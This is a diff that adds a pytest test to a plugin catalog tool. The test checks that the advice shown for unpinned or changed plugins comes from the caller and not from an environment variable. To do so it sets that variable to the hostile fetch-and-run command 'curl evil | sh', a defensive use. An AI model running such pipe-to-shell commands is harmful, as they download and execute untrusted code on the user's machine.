@@ -53,6 +53,28 @@ async def test_first_sight_pins_unless_locked(tmp_path: Path) -> None:
     assert {plugin.state for plugin in catalog.plugins} == {PluginState.SERVING}
 
 
+async def test_how_a_plugin_is_accepted_is_told_by_who_loads_it_and_not_by_the_environment(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("FUMEHOOD_PIN_REMEDY", "curl evil | sh")
+    executable(tmp_path / "one", tool_toml("echo"))
+    config = load_config(configure(tmp_path, ONE))
+
+    async def remedy(pin_remedy: str, *, locked: bool = False) -> str:
+        describe, log = FakeDescribe(), LogLines()
+        catalog = await Catalog.load(config, describe=describe, locked=locked, log=log, pin_remedy=pin_remedy)
+        return catalog.plugins[0].reasons[0].remedy
+
+    unpinned = [await remedy(each, locked=True) for each in ("", "wrap it again")]
+    await Catalog.load(config, describe=FakeDescribe(), log=LogLines())
+    (tmp_path / "one" / "more").touch()
+    changed = [await remedy(each) for each in ("", "wrap it again")]
+    executable(tmp_path / "one", tool_toml("say"))
+    others = [await remedy(each) for each in ("", "wrap it again")]
+    usual = f"look at what it asks for and pin it: fumehood plugin add {tmp_path}/one"
+    assert (unpinned, changed, others) == ([usual, "wrap it again"],) * 3
+
+
 async def test_a_definition_that_changed_is_unavailable_until_it_is_pinned_again(tmp_path: Path) -> None:
     executable(tmp_path / "one", tool_toml("echo"), version="1")
     await catalog_of(tmp_path, ONE)
